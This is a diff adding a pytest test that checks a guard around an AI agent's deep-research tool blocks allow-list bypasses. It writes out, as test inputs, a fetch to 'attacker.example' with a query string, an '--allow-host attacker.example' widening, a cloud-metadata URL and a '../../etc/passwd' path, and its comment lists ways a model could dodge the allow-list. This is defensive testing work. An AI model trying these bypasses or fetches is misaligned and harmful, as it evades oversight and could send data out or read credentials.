@@ -467,3 +467,28 @@ def test_a_run_started_after_a_cd_is_still_guarded(
 def test_a_malformed_session_id_names_no_record() -> None:
     for bad in ("../../etc/passwd", "", None, 7, "a" * 200, "sess/1"):
         assert runstate.session_record(bad) is None
+
+
+def test_the_run_cannot_be_restarted_widened_or_left_behind(
+    project: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    # The cheap bypasses of the allow-list: a second start (fresh budget), static hosts chosen
+    # by the model, and finish-then-fetch.
+    brief = _brief(project)
+
+    def bash(command: str, where: Path = project) -> guard.Decision:
+        return decide(event("Bash", {"command": command}, where), where)
+
+    again = bash(f"deep-research start '{SCOPE}' --depth full")
+    assert not again.allow and "a research run is active" in again.reason
+    assert runstate.finish_run(project / "state", brief)
+    widened = bash("deep-research start 'next topic' --allow-host attacker.example")
+    assert not widened.allow and "static hosts cannot be added" in widened.reason
+    for command in (f"deep-research fetch https://attacker.example/v?s=x --brief {brief}",
+                    f"deep-research mcp-fetch docs search_docs --brief {brief}"):
+        left = bash(command)
+        assert not left.allow and "no research run is active" in left.reason
+    assert bash("deep-research start 'next topic' --depth quick").allow
+    # Fetch safety still names the real problem first.
+    metadata = bash(f"deep-research fetch http://169.254.169.254/ --brief {brief}")
+    assert not metadata.allow and "unsafe target" in metadata.reason
